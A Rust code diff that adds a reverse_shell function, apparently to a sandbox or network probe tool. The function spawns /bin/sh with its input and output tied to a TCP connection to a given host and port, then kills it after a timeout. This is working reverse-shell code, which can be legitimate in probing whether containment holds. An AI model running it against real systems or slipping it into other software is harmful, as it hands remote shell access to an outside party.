@@ -174,3 +174,40 @@ fn active_opens() -> Result<i64, String> {
         .and_then(|(_, value)| value.parse().ok())
         .ok_or_else(|| "/proc/net/snmp has no Tcp ActiveOpens".into())
 }
+
+/// `sh` with its standard input, output and error on a TCP connection to host:port, as an
+/// attacker's reverse shell; waits up to `wait_ms` (default 2000) for it to end and kills it if
+/// it is still running then (as the Python probe does).
+pub(crate) fn reverse_shell(arg: &Value) -> Result<Value, String> {
+    let target = target(arg)?;
+    let wait = Duration::from_millis(arg.get("wait_ms").map_or(Ok(2000), number)?);
+    let stream = connect_any(&target).map_err(|err| err.to_string())?;
+    let stdio = |s: &TcpStream| -> Result<std::process::Stdio, String> {
+        let owned: std::os::fd::OwnedFd = s.try_clone().map_err(|e| e.to_string())?.into();
+        Ok(owned.into())
+    };
+    let started = Instant::now();
+    let mut child = std::process::Command::new("/bin/sh")
+        .stdin(stdio(&stream)?)
+        .stdout(stdio(&stream)?)
+        .stderr(stdio(&stream)?)
+        .spawn()
+        .map_err(|err| err.to_string())?;
+    drop(stream);
+    let pid = child.id();
+    while started.elapsed() < wait {
+        if let Some(status) = child.try_wait().map_err(|e| e.to_string())? {
+            return Ok(json!({
+                "pid": pid,
+                "running": false,
+                "exit_code": status.code(),
+                "signal": std::os::unix::process::ExitStatusExt::signal(&status),
+                "ended_after_ms": started.elapsed().as_millis() as u64,
+            }));
+        }
+        std::thread::sleep(Duration::from_millis(10));
+    }
+    let _ = child.kill();
+    let _ = child.wait();
+    Ok(json!({ "pid": pid, "running": true, "exit_code": null, "signal": null }))
+}
